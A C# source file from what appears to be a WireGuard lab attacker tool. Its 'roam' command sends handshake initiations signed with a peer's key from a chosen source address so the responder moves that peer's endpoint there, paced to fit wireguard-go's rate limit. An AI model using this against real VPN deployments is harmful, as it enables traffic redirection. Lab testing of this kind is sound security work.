using System.Net;
using System.Net.Sockets;

namespace WgRouted.Lab.Attacker;

/// <summary>
/// roam: --count WireGuard handshake initiations with the key, --interval-ms apart (wireguard-go takes at most one a
/// peer every 20 ms), from the source endpoint --from: the responder moves its endpoint for the key's owner there.
/// </summary>
internal static class Roam
{
    public static int Run(Arguments a)
    {
        var identity = Identity.Load(a.Text("key"), a.Key("peer"));
        var to = a.Endpoint("to");
        var from = a.Endpoint("from");
        var count = a.Number("count", 1, 200);
        var interval = a.Number("interval-ms", 20, 5000);
        using var socket = Senders.Bind(new IPEndPoint(from.Address, from.Port));
        var destination = new IPEndPoint(to.Address, to.Port);
        var ours = Convert.FromBase64String(identity.Us.Base64);
        var theirs = identity.Peer.ToBytes();
        var sent = 0;
        for (var i = 0; i < count; i++)
        {
            if (i > 0)
                Thread.Sleep((int)interval);
            var index = (uint)System.Security.Cryptography.RandomNumberGenerator.GetInt32(int.MaxValue);
            socket.SendTo(Initiation.Create(identity.PrivateKey, ours, theirs, index, DateTimeOffset.UtcNow), SocketFlags.None, destination);
            sent++;
        }
        Console.WriteLine($"sent={sent} from={from} to={to}");
        return 0;
    }
}
